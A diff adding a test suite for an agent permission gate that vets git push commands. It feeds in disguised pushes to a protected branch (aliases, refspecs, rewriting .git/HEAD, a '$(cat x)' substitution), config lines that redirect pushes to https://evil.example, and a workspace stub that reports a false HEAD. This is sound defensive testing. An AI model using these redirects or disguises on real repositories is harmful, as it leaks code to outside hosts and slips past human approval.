@@ -1,0 +1,251 @@
+import { execFileSync } from "node:child_process";
+import { mkdirSync, writeFileSync } from "node:fs";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { type Lab, permissionLab } from "../../../support/permission-lab.ts";
+
+const RUN = "terminal_operations.run_command";
+const ADDRESS = "https://git.example/team/app.git";
+
+/** A repository on the branch feature, whose upstream is feature. */
+const SETUP = `
+git init -q -b main . && git config user.name a && git config user.email a@b
+echo one > f && git add f && git commit -qm one && git branch other && git tag v1
+git switch -qc feature && git commit -q --allow-empty -m two
+git remote add origin ${ADDRESS}
+git config branch.feature.remote origin && git config branch.feature.merge refs/heads/feature
+`;
+
+describe("a push, by what the repository makes of it", () => {
+  let lab: Lab;
+  const sh = (script: string) =>
+    execFileSync("bash", ["-ec", script], { cwd: lab.files.path("."), encoding: "utf8" }).trim();
+  beforeEach(async () => {
+    lab = await permissionLab();
+    sh(SETUP);
+  });
+  afterEach(() => lab[Symbol.asyncDispose]());
+
+  const linesOf = async (command: string) => {
+    const { effect, risk } = await lab.question(RUN, { command });
+    return {
+      risk,
+      lines: effect.notes.filter((note) => /^(?:Pushes|Force|Deletes|Makes)/.test(note)),
+    };
+  };
+
+  /** Each: what the workload has prepared, the command, and where it goes by the text alone. */
+  it.each([
+    ["git switch -q main", "git push"],
+    ["git switch -q main", "git push origin"],
+    ["git switch -q main", "git push origin HEAD"],
+    ["git switch -q main", "git push origin @"],
+    ["git switch -q main", "git push -u origin HEAD"],
+    ["git switch -q main", "git push origin HEAD~1"],
+    ["git switch -q main", "git commit -qm x --allow-empty && git push"],
+    ["git switch -q main", "cd . && git -c push.default=current push"],
+    ["git switch -q main", "/usr/lib/git-core/git-push origin HEAD"],
+    ["git symbolic-ref refs/heads/alias refs/heads/main", "git push origin alias"],
+    [
+      "git config push.default upstream; git config branch.feature.merge refs/heads/main",
+      "git push",
+    ],
+    [
+      "git config push.default tracking; git config branch.feature.merge refs/heads/main",
+      "git push",
+    ],
+    [
+      "git config push.default upstream; git config branch.other.merge refs/heads/main",
+      "git push origin other",
+    ],
+    ["git config branch.feature.merge refs/heads/main", "git -c push.default=upstream push"],
+    ["git config push.default matching", "git push"],
+    ["git config remote.origin.push refs/heads/feature:refs/heads/main", "git push"],
+    ["git config remote.origin.push refs/heads/feature:refs/heads/main", "git push origin feature"],
+    ["git config remote.origin.push refs/heads/*:refs/heads/release-*", "git push origin feature"],
+    ["git config remote.origin.push HEAD:refs/heads/main", "git push"],
+    ["git config remote.origin.push +refs/heads/feature:refs/heads/feature", "git push"],
+    ["git config remote.origin.push :refs/heads/feature", "git push"],
+    ["git config remote.origin.push refs/heads/*:refs/heads/*", "git push"],
+    ["git config remote.origin.mirror true", "git push origin feature"],
+    ["git config remote.other.push feature:main", "git -c remote.pushDefault=other push"],
+    ["git config branch.feature.pushRemote p; git config remote.p.push feature:main", "git push"],
+    ["git config alias.up 'push origin feature:main'", "git up"],
+    ["git config alias.up push; git switch -q main", "git up"],
+    ["git config alias.up '!git push origin feature:main'", "git up"],
+    ["git config extensions.refStorage files; git config extensions.refStorage other", "git push"],
+    ["git config --file .git/config.worktree push.default current", "git push"],
+    ["true", "git switch main && git push"],
+    ["true", "git switch -q main; git push origin HEAD"],
+    ["true", "git checkout main && git push"],
+    ["true", "git config push.default matching && git push"],
+    ["true", "echo 'ref: refs/heads/main' > .git/HEAD && git push"],
+    ["true", "bash prepare.sh && git push"],
+    ["true", "npm test && git push"],
+    ["true", "git push origin feature:heads/main"],
+    ["true", "git push origin feature:refs/heads/main"],
+    ["true", "git push origin HEAD:main"],
+    ["true", "git push origin +feature:feature"],
+    ["true", "git push origin :other"],
+    ["true", "git push origin --delete other"],
+    ["true", "git push origin 'refs/heads/*:refs/heads/*'"],
+    ["true", "git push origin :"],
+    ["true", "git push --all origin"],
+    ["true", "git push --mirror"],
+    ["true", "git push origin '@{-1}'"],
+    ["true", "git push origin feature:$(cat x)"],
+    ["true", "git send-pack https://git.example/x"],
+    ["git switch -q main", "git subtree push --prefix=d origin main"],
+  ])("asks for a phrase: after %s, %s", async (prepared, command) => {
+    sh(`${prepared}; mkdir -p d; echo true > prepare.sh`);
+    expect((await lab.question(RUN, { command })).risk).toBe("phrase");
+  });
+
+  it.each([
+    ["true", "git push", "Pushes feature (ID) to feature"],
+    ["true", "git push origin", "Pushes feature (ID) to feature"],
+    ["true", "git push origin HEAD", "Pushes feature (ID) to feature"],
+    ["true", "git push -u origin feature", "Pushes feature (ID) to feature"],
+    ["true", "git push origin feature:wip", "Pushes feature (ID) to wip"],
+    ["true", "git push origin v1", "Pushes v1 (V1) to tags/v1"],
+    ["true", "git push origin tag v1", "Pushes tags/v1 (V1) to tags/v1"],
+    ["git pack-refs --all", "git push origin other", "Pushes other (V1) to other"],
+    ["git config push.default current; git switch -qc x", "git push", "Pushes x (ID) to x"],
+    [
+      "git config push.default upstream; git config branch.feature.merge refs/heads/wip",
+      "git push",
+      "Pushes feature (ID) to wip",
+    ],
+    [
+      "git config remote.origin.push refs/heads/main:refs/heads/wip",
+      "git push origin main:review",
+      "Pushes main (V1) to review",
+    ],
+    [
+      "true",
+      "git add -A && git commit -m x --allow-empty && git push",
+      "Pushes feature (ID and what this command adds) to feature",
+    ],
+    ["true", "git push origin new", "Pushes new to new"],
+    [
+      "true",
+      "npm test && git push origin feature",
+      "Pushes feature (ID and what this command adds) to feature",
+    ],
+  ])("asks for a click and says what it sends: after %s, %s", async (prepared, command, line) => {
+    sh(prepared);
+    const id = sh("git rev-parse --short=7 HEAD");
+    const tagged = sh("git rev-parse --short=7 v1");
+    const expected = `${line.replace("ID", id).replace("V1", tagged)} of ${ADDRESS}.`;
+    expect(await linesOf(command)).toEqual({ risk: "click", lines: [expected] });
+  });
+
+  it.each([
+    ["git config remote.origin.pushurl https://evil.example/x", "https://evil.example/x"],
+    [
+      "git config url.https://evil.example/.insteadOf https://git.example/",
+      "https://evil.example/team/app.git",
+    ],
+    [
+      "git config url.https://evil.example/.pushInsteadOf https://git.example/team/",
+      "https://evil.example/app.git",
+    ],
+    [
+      "git config --add remote.origin.url https://evil.example/x",
+      `${ADDRESS} and https://evil.example/x`,
+    ],
+    [
+      "git config remote.origin.url https://me:lab-password@git.example/x",
+      "https://me:***@git.example/x",
+    ],
+    ["git config branch.feature.remote https://evil.example/x", "https://evil.example/x"],
+  ])("names the address that git would use: after %s", async (prepared, address) => {
+    sh(prepared);
+    const { lines } = await linesOf("git push");
+    expect(lines[0]).toContain(`to feature of ${address}.`);
+  });
+
+  it("names the branch in the phrase", async () => {
+    sh("git switch -q main");
+    const { effect } = await lab.question(RUN, { command: "git push" });
+    expect(effect.phrase).toBe("push to main");
+    expect(effect.reasons.join()).toContain("pushes to a protected branch (main)");
+    expect(effect.buttons.map(({ choice }) => choice)).not.toContain("timed");
+  });
+
+  it.each([
+    ["git push", ["HEAD", "refs/heads/feature"], []],
+    ["git push origin other", ["HEAD", "refs/heads/other"], []],
+    ["git push origin v1", ["HEAD", "refs/tags/v1"], ["refs/heads/v1"]],
+    ["git push origin new", ["HEAD"], ["refs/heads/new", "refs/tags/new", "packed-refs"]],
+    ["git push backup feature", ["HEAD"], ["remotes/backup", "branches/backup"]],
+  ])("binds the files that decide it: %s", async (command, files, missing) => {
+    const { run } = (await lab.question(RUN, { command })).call;
+    const inGit = (names: readonly string[]) => names.map((name) => `/workspace/.git/${name}`);
+    expect(run?.files.map(({ path }) => path)).toEqual(expect.arrayContaining(inGit(files)));
+    expect(run?.missing).toEqual(expect.arrayContaining(inGit(missing)));
+  });
+
+  it.each([
+    "git commit -q --allow-empty -m three",
+    "git switch -q main",
+    "git config branch.feature.merge refs/heads/main",
+    "git pack-refs --all",
+    "git reset -q --hard main",
+  ])("is another approval after %s", async (change) => {
+    const digest = async () => (await lab.question(RUN, { command: "git push" })).digest;
+    const before = await digest();
+    expect(await digest()).toBe(before);
+    sh(change);
+    expect(await digest()).not.toBe(before);
+  });
+
+  it.each(["remotes", "branches"])("is refused where .git/%s names the remote", async (folder) => {
+    mkdirSync(lab.files.path(`.git/${folder}`), { recursive: true });
+    writeFileSync(lab.files.path(`.git/${folder}/backup`), "URL: /tmp/evil.git\n");
+    const reason = expect.stringContaining(`in .git/${folder}, an old form`);
+    const refused = { outcome: "denied", reason };
+    expect(await lab.check(RUN, { command: "git push backup feature" })).toMatchObject(refused);
+    expect(await lab.check(RUN, { command: "git push origin feature" })).toMatchObject({
+      outcome: "ask",
+    });
+  });
+
+  it("reads the branches of a linked working tree where git does", async () => {
+    sh("git worktree add -q linked other");
+    const { risk, lines } = await linesOf("git -C linked push origin HEAD");
+    expect(risk).toBe("click");
+    expect(lines[0]).toMatch(/^Pushes other \([0-9a-f]{7}\) to other of /);
+  });
+
+  it("refuses when the workload's answer is not the file that root finds", async () => {
+    const { workspace } = lab;
+    const lying = {
+      ...workspace,
+      call: async (call: { args: Readonly<Record<string, unknown>> }) =>
+        String(call.args.filePath).endsWith("/HEAD")
+          ? {
+              success: true,
+              content: "ref: refs/heads/feature\n",
+              returnedLines: 1,
+              truncated: false,
+              tokenLimited: false,
+            }
+          : workspace.call({ id: "x", tool: "file_operations", args: call.args }),
+    };
+    sh("git switch -q main");
+    const verdict = await lab.check(
+      RUN,
+      { command: "git push" },
+      { workspace: async () => lying as typeof workspace },
+    );
+    expect(verdict).toMatchObject({
+      outcome: "denied",
+      reason: expect.stringContaining(".git/HEAD changed while the card"),
+    });
+  });
+
+  it("stays a click outside of repositories, where git pushes nothing", async () => {
+    sh("rm -rf .git");
+    expect(await linesOf("git push")).toEqual({ risk: "click", lines: [] });
+  });
+});
